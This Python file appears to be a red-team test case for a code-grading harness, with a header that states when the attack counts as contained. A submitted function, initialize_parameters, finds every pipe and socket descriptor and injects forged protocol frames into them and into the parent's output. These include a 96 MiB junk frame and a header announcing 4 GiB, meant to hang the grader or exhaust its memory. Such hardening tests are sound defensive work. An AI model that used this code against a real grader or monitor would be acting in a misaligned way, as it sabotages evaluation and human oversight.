# RED-TEAM ATTACK (issue 9): frames far larger than any result.
# Route: a 'Q' (question to the trusted side) frame of 96 MiB of junk, relayed to the grader, then a
#   'C' frame head that announces 4 GiB followed by 32 MiB of data; a reader that trusts a frame's
#   length allocates it, or waits for it.
# Contained when: grading does not hang or run out of memory, initialize_parameters scores 0, and
#   every other function of this submission (correct) and the next submission are graded exactly as
#   without the attack.
# attacked: initialize_parameters
# run: late
import json
import os
import stat
import struct
import sys

FORGED = []


def _frame(kind, payload):
    """Today's framing: a kind byte, a 4-byte big-endian length, the payload."""
    return kind + struct.pack(">I", len(payload)) + payload


def _message(header, *buffers):
    """Today's message: a 4-byte header length, a JSON header, then each buffer with its length."""
    raw = json.dumps(header, separators=(",", ":")).encode() if not isinstance(header, bytes) else header
    return struct.pack(">I", len(raw)) + raw + b"".join(struct.pack(">I", len(b)) + b for b in buffers)


def _pipes(posix):
    """Every descriptor that is a pipe or a socket: one of them carries results to the grader."""
    found = []
    for fd in range(3, 1024):
        try:
            mode = posix.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            found.append(fd)
    return found


def _send(data, also_parent=False):
    """Write raw bytes into every channel there is (and, if asked, the parent's own output)."""
    posix = sys.modules.get("posix") or __import__("posix")
    targets = _pipes(posix)
    for fd in targets:
        try:
            view = memoryview(data)
            while view:
                view = view[posix.write(fd, view):]
        except OSError:
            pass
    if also_parent:
        try:
            with open("/proc/%d/fd/1" % os.getppid(), "wb") as out:
                out.write(data)
        except Exception:
            pass


def initialize_parameters(n_x, n_h, n_y):
    if not FORGED:
        FORGED.append(1)
        _send(_frame(b"Q", _message({"~": "dict", "v": [["i", 0]]}) + b"\xff" * (96 << 20)))
        _send(b"C" + struct.pack(">I", 0xFFFFFFF0) + b"\xee" * (32 << 20))
    raise RuntimeError("sent huge frames")


# __HONEST_REST__
